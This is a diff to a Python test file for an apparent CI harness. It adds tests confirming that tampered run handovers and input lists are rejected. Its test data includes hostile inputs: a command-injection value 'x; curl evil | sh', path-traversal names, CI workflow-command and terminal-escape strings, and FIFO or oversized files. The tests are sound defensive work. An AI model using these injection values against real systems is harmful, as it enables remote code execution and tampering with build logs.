@@ -2,7 +2,10 @@
 
 from __future__ import annotations
 
+import contextlib
 import json
+import os
+from collections.abc import Callable
 from pathlib import Path
 from typing import Any
 
@@ -10,9 +13,11 @@ import msgspec
 import numpy as np
 import pytest
 
+from harness.base.digests import digest_json
 from harness.base.errors import OutputsError, UsageError
 from harness.base.slices import read_grey, write_grey
-from harness.ci.transfer import read_inputs, read_run, write_inputs, write_run
+from harness.base.structs import write_json
+from harness.ci.transfer import TransferredRun, read_inputs, read_run, write_inputs, write_run
 from harness.dataset.cases import Case, Dataset, FurtherSlice
 from harness.pipeline.container_run import RunOutcome
 from harness.pipeline.result import observed_without_engine
@@ -81,6 +86,8 @@ def test_without_further_slices_the_note_is_as_it_was(tmp_path: Path, dataset: D
         ({"name": "b"}, "names that repeat: expected [], found ['b']"),
         ({"name": "b-again"}, "names that repeat: expected [], found ['b-again']"),
         ({"kind": "twice"}, "kind"),
+        ({"name": "../../etc/x"}, "names that are none of a file: expected [], found ['../../etc/x']"),
+        ({"name": "\u2028"}, "names that are none of a file"),
     ],
 )
 def test_a_list_that_would_show_a_plane_twice_is_refused(
@@ -94,6 +101,56 @@ def test_a_list_that_would_show_a_plane_twice_is_refused(
     with pytest.raises(UsageError) as caught:
         read_inputs(tmp_path / "inputs", protocol)
     assert said in caught.value.message
+
+
+Altered = Callable[[dict[str, Any]], object]
+
+
+@pytest.mark.parametrize(
+    ("alter", "said"),
+    [
+        (lambda run: run["observed"].update(date="2999-01-01T00:00:00Z"), "in the future"),
+        (lambda run: run["observed"].update(date="\u202e"), "date: expected"),
+        (lambda run: run["observed"].update(commit="x; curl evil | sh"), "commit: expected"),
+        (lambda run: run["observed"].update(files={"../../x": "0" * 64}), "file 0: expected"),
+        (lambda run: run["observed"].update(engine="\x1b[2J"), "control characters or CI commands"),
+        (lambda run: run["observed"]["machine"].update(about="x\u2028::stop-commands::t"), "control characters"),
+        (lambda run: run["observed"]["machine"].update({"::error::": "x"}), "control characters"),
+        (lambda run: run["observed"].update(lowered=["\u202e"]), "control characters"),
+        (lambda run: run["observed"].update(log="x" * (1 << 20)), "at most 1048576 are allowed"),
+        (lambda run: run.update(outputs=None, schema=2), "schema"),
+    ],
+)
+def test_a_handover_is_refused_by_what_is_wrong_with_it(
+    tmp_path: Path, dataset: Dataset, protocol: Protocol, alter: Altered, said: str
+) -> None:
+    images = {case.name: read_grey(Path(case.lq)) for case in dataset.shown}
+    observed = msgspec.structs.replace(observed_without_engine(protocol), about=ABOUT)
+    outcome = RunOutcome(submission=FACTS, device="cpu", outputs=digest_outputs(images), observed=observed)
+    folder = tmp_path / "run"
+    written = write_run(folder, outcome, {one.name: one.lq for one in dataset.shown}, inputs=dataset, protocol=protocol)
+    raw = msgspec.to_builtins(written)
+    alter(raw)
+    with contextlib.suppress(msgspec.ValidationError):  # whoever alters it can make the digest fit
+        raw["digest"] = digest_json(msgspec.structs.replace(msgspec.convert(raw, TransferredRun), digest=""))
+    write_json(folder / "run.json", raw)
+    with pytest.raises(UsageError) as caught:
+        read_run(folder, submission=FACTS, about=ABOUT, dataset=dataset, protocol=protocol)
+    assert said in caught.value.message
+
+
+@pytest.mark.parametrize("kind", ["fifo", "sparse", "null"])
+def test_a_handover_that_is_no_file_is_refused(tmp_path: Path, dataset: Dataset, protocol: Protocol, kind: str) -> None:
+    path = tmp_path / "run" / "run.json"
+    path.parent.mkdir()
+    if kind == "fifo":
+        os.mkfifo(path)
+    else:
+        path.write_bytes(b"null")
+    if kind == "sparse":
+        os.truncate(path, 3 << 30)
+    with pytest.raises(UsageError, match=r"run\.json: (is not a regular file|has 3221225472 bytes|Expected `object`)"):
+        read_run(path.parent, submission=FACTS, about=ABOUT, dataset=dataset, protocol=protocol)
 
 
 def test_outputs_of_further_slices_are_handed_over_and_checked_as_strictly(
